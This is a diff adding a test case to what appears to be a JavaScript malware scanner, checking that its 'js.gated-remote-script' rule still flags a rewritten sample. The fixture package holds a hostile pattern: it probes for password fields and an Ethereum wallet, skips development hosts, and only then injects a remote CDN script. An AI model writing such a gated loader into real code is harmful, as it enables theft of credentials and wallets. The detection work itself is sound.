@@ -263,3 +263,27 @@ describe('round 78: a remote script loaded only into pages that hold secrets', (
     expect(ruleOf(r, 'js.gated-remote-script')).toBeUndefined();
   });
 });
+
+describe('round 78, rewritten: the secret-page probe written another way', () => {
+  it('inputs filtered by type from a list, and `"ethereum" in window`, still gate the loader', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'vitals-mini', version: '1.0.0', main: 'index.js' }),
+      'probe.js': [
+        "const KINDS = ['password', 'tel'];",
+        'const DEV = [/^localhost$/, /\\.local$/, /\\.test$/];',
+        "exports.weight = () => Array.from(document.getElementsByTagName('input')).filter((i) => KINDS.includes(i.type)).length + ('ethereum' in window ? 2 : 0);",
+        'exports.live = () => !DEV.some((r) => r.test(location.hostname));',
+      ].join('\n'),
+      'index.js': [
+        "const p = require('./probe');",
+        'exports.init = () => {',
+        '  if (!p.live() || p.weight() === 0) return;',
+        "  const s = document.createElement('script');",
+        "  s.src = 'https://cdn.jsdelivr.net/npm/po-shim@2.1.4/dist/po.min.js';",
+        '  document.head.appendChild(s);',
+        '};',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+});
